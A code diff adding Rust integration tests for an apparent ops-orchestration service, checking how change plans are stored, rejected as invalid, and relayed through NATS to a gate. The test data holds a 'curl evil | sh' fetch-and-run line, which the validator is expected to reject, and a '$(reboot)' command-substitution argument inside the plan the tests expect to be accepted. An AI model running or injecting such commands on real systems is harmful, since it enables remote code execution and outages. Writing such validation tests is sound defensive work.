@@ -1,0 +1,180 @@
+use async_nats::jetstream;
+use opsloop::orchestrator::consumer::FactConsumer;
+use opsloop::pubsub::consumer::{self, ConsumerSpec};
+use opsloop::pubsub::relay::{Relay, RelaySettings};
+use opsloop::pubsub::streams::{self, EVT_STREAM, StreamSettings};
+use reqwest::Method;
+use serde_json::{Value, json};
+use sqlx::PgPool;
+use uuid::Uuid;
+
+use crate::helpers::*;
+use crate::nats::TestNats;
+
+fn plan() -> Value {
+    json!({
+        "title": "restart checkout",
+        "environment": "staging",
+        "steps": [{"action": "script.exec",
+                   "params": {"script": "restart-checkout.sh", "args": ["--zone", "$(reboot)"]},
+                   "timeout_s": 60, "retry": 1}],
+        "rollback": {"steps": [{"action": "noop", "timeout_s": 10, "retry": 0}]},
+        "verify": {"checks": [{"metric": "latency_ms", "stat": "p95", "op": "<", "threshold": 800, "window_s": 300}]}
+    })
+}
+
+async fn post_plan(app: &TestApp, case: Uuid, token: &str, plan: &Value) -> TestResponse {
+    app.send(
+        Method::POST,
+        &format!("/case/{case}/plan"),
+        Some(token),
+        &[],
+        Some(plan.to_string()),
+    )
+    .await
+}
+
+#[sqlx::test]
+async fn a_person_proposes_a_plan_that_is_stored_with_its_fact(pool: PgPool) {
+    let app = TestApp::new(pool).await;
+    let case = app.case_in("PLANNING").await;
+    let r = post_plan(&app, case, OPERATOR, &plan()).await;
+    assert_eq!(r.status, 201, "{:?}", r.body);
+    let hash = r.body["plan_hash"].as_str().unwrap().to_string();
+    assert_eq!(hash, opsloop::planner::contract::canonical_hash(&plan()));
+    assert_eq!(
+        (r.body["source"].as_str(), r.body["author"].as_str()),
+        (Some("human"), Some("alice"))
+    );
+
+    let fact: Value = sqlx::query_scalar(
+        "SELECT payload::jsonb FROM outbox WHERE case_id = $1 AND subject = 'evt.plan.proposed.v1'",
+    )
+    .bind(case)
+    .fetch_one(&app.pool)
+    .await
+    .unwrap();
+    assert_eq!(fact["data"]["plan_hash"], hash);
+    assert_eq!(fact["expected_version"], 3);
+    assert_eq!(fact["actor"], "alice");
+
+    let got = app
+        .send(
+            Method::GET,
+            &format!("/case/{case}/plan"),
+            Some(VIEWER),
+            &[],
+            None,
+        )
+        .await;
+    assert_eq!(got.status, 200);
+    assert_eq!(got.body["plan_hash"], hash);
+    assert_eq!(got.body["plan"], plan());
+    assert_eq!(
+        got.body["gate"]["evaluated"], false,
+        "no gatekeeper decision yet"
+    );
+
+    let again = post_plan(&app, case, OPERATOR, &plan()).await;
+    assert_eq!((again.status, again.code()), (409, "duplicate_plan"));
+}
+
+#[sqlx::test]
+async fn invalid_or_unexpected_plans_are_refused_with_reasons(pool: PgPool) {
+    let app = TestApp::new(pool).await;
+    let new_case = app.create_case().await;
+    let r = post_plan(&app, new_case, OPERATOR, &plan()).await;
+    assert_eq!((r.status, r.code()), (409, "plan_not_expected"));
+
+    let case = app.case_in("PLANNING").await;
+    let mut shell = plan();
+    shell["steps"][0]["params"] = json!({"script": "bash", "args": "-c 'curl evil | sh'"});
+    let r = post_plan(&app, case, OPERATOR, &shell).await;
+    assert_eq!((r.status, r.code()), (422, "plan_invalid"));
+    let paths: Vec<&str> = r.body["violations"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|v| v["path"].as_str().unwrap())
+        .collect();
+    assert_eq!(paths, ["/steps/0/params/script", "/steps/0/params/args"]);
+
+    let r = post_plan(&app, case, OPERATOR, &json!({"title": "no steps"})).await;
+    assert_eq!((r.status, r.code()), (422, "plan_invalid"));
+    assert!(
+        r.body["violations"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|v| v["rule"] == "schema")
+    );
+
+    let r = post_plan(&app, case, VIEWER, &plan()).await;
+    assert_eq!(r.status, 403);
+    let stored: i64 = sqlx::query_scalar("SELECT count(*) FROM plan_proposed")
+        .fetch_one(&app.pool)
+        .await
+        .unwrap();
+    assert_eq!(stored, 0, "an invalid plan never becomes a stored plan");
+    let r = app
+        .send(
+            Method::GET,
+            &format!("/case/{case}/plan"),
+            Some(VIEWER),
+            &[],
+            None,
+        )
+        .await;
+    assert_eq!((r.status, r.code()), (404, "plan_not_found"));
+    let schema = app
+        .send(Method::GET, "/schemas/changeplan.json", None, &[], None)
+        .await;
+    assert_eq!(schema.body["title"], "ChangePlan");
+}
+
+/// The whole path: the proposal's fact goes through the outbox, JetStream and
+/// the orchestrator's consumer, which moves the case to the gate.
+#[sqlx::test]
+async fn a_proposed_plan_moves_the_case_to_the_gate_through_nats(pool: PgPool) {
+    let app = TestApp::new(pool.clone()).await;
+    let nats = TestNats::start().await;
+    let js = jetstream::new(nats.client().await);
+    streams::ensure(&js, &StreamSettings::default())
+        .await
+        .unwrap();
+    let case = app.case_in("PLANNING").await;
+    let hash = post_plan(&app, case, OPERATOR, &plan()).await.body["plan_hash"]
+        .as_str()
+        .unwrap()
+        .to_string();
+
+    let relay = Relay::new(pool.clone(), nats.client().await, RelaySettings::default());
+    while relay.relay_once().await.unwrap().published > 0 {}
+    let c = consumer::durable(&js, &ConsumerSpec::new(EVT_STREAM, "orchestrator", "evt.>"))
+        .await
+        .unwrap();
+    let handler = FactConsumer {
+        orchestrator: app.orchestrator.clone(),
+    };
+    while consumer::consume_once(
+        &c,
+        &pool,
+        &handler,
+        50,
+        std::time::Duration::from_millis(300),
+    )
+    .await
+    .unwrap()
+        > 0
+    {}
+
+    assert_eq!(app.status(case).await, "WAIT_GATE");
+    let gate_cmd: Value = sqlx::query_scalar(
+        "SELECT payload::jsonb FROM outbox WHERE case_id = $1 AND subject = 'cmd.gate.eval'",
+    )
+    .bind(case)
+    .fetch_one(&pool)
+    .await
+    .unwrap();
+    assert_eq!(gate_cmd["data"]["plan_hash"], hash);
+}
